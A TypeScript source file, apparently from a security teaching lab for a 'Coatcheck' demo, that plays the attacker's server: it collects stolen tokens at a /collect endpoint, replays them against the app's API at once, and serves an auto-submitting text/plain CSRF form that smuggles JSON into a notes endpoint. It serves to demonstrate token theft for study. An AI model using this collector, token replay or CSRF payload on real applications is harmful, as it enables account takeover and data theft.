import type { IncomingMessage, ServerResponse } from 'node:http';
import { attackerOrigin, type LabSettings, weakOrigin } from '../environment.ts';
import { bodyOf, parsed, recordOf, send, sendJson, textOf } from '../http.ts';
import { type Records, shownTokens, tokensIn, type Victim, victims } from './records.ts';
import { callApi, redeemAsBff, useLoot } from './use.ts';

/** The attacker's server; to the BFF, which comes by the address, also the lab's log under `/lab`. */
export async function answerAsAttacker(
  settings: LabSettings,
  records: Records,
  request: IncomingMessage,
  response: ServerResponse,
): Promise<void> {
  const url = new URL(request.url ?? '/', attackerOrigin(settings));
  const route = `${request.method} ${url.pathname}`;
  if (route === 'GET /healthz') return send(response, 200, 'text/plain', 'ok');
  if (request.headers.host === url.host) return beAttacker(settings, records, route, url, request, response);
  if (request.headers.host !== `127.0.0.1:${settings.attackerPort}`) {
    return send(response, 421, 'text/plain', 'Wrong address');
  }
  switch (route) {
    case 'GET /lab/places': {
      const { issuer } = settings;
      return sendJson(response, {
        attacker: attackerOrigin(settings),
        weakApp: weakOrigin(settings),
        issuer,
      });
    }
    case 'GET /lab/received':
      return sendJson(response, { records: records.list() });
    case 'POST /lab/use': {
      const { from, scenario } = parsed(await bodyOf(request));
      await useLoot(settings, records, victimIn(from), textOf(scenario));
      return sendJson(response, {});
    }
    case 'POST /lab/forget':
      records.forget();
      return sendJson(response, {});
    default:
      return send(response, 404, 'text/plain', 'Not found');
  }
}

async function beAttacker(
  settings: LabSettings,
  records: Records,
  route: string,
  url: URL,
  request: IncomingMessage,
  response: ServerResponse,
): Promise<void> {
  if (route === 'POST /collect') {
    await receive(settings, records, await bodyOf(request));
    return send(response, 200, 'text/plain', '');
  }
  if (route === 'GET /collect') {
    await receive(settings, records, url.searchParams.get('loot') ?? '');
    return send(response, 200, 'text/html', page('Received. This window closes.', 'setTimeout(close, 1500)'));
  }
  if (route === 'GET /csrf') {
    const text = 'A page of another site sent a form to the app. Its answer is not for this server to read.';
    records.add({ from: 'coatcheck', scenario: 'csrf', text, tokens: [] });
    const form = `<form method="post" enctype="text/plain" action="${settings.app}/api/notes"><input type="hidden" name='{"title":"Written by another site","body":"' value='"}'></form>`;
    return send(response, 200, 'text/html', `${page('You have won', 'document.forms[0].submit()', form)}`);
  }
  send(response, 404, 'text/plain', 'Not found');
}

/** Keeps what came, and tries it at once. */
async function receive(settings: LabSettings, records: Records, text: string): Promise<void> {
  const { from, scenario, note, loot, data } = parsed(text);
  const victim = victimIn(from);
  const found = tokensIn(JSON.stringify(loot ?? {}));
  records.keep(victim, found);
  const words = [textOf(note)];
  if (found.accessToken !== undefined) words.push(await callApi(settings, found.accessToken));
  else if (data === undefined) words.push('No token in it.');
  if (data !== undefined) {
    const { name, email } = recordOf(recordOf(data).claims);
    words.push(`What the API told the victim is here: ${textOf(name)}, ${textOf(email)}.`);
  }
  if (victim === 'coatcheck' && scenario === 'frame') words.push(await redeemAsBff(settings));
  records.add({
    from: victim,
    scenario: textOf(scenario),
    text: words.filter((word) => word !== '').join(' '),
    tokens: shownTokens(found),
  });
}

function victimIn(value: unknown): Victim {
  return victims.find((victim) => victim === value) ?? 'storage';
}

function page(text: string, script: string, body = ''): string {
  return `<!doctype html><html lang="en"><meta charset="utf-8"><title>The attacker’s server (lab)</title><body style="font:1rem system-ui;padding:2rem"><p>The attacker’s server of the Coatcheck demo’s lab.</p><p>${text}</p>${body}<script>${script}</script>`;
}
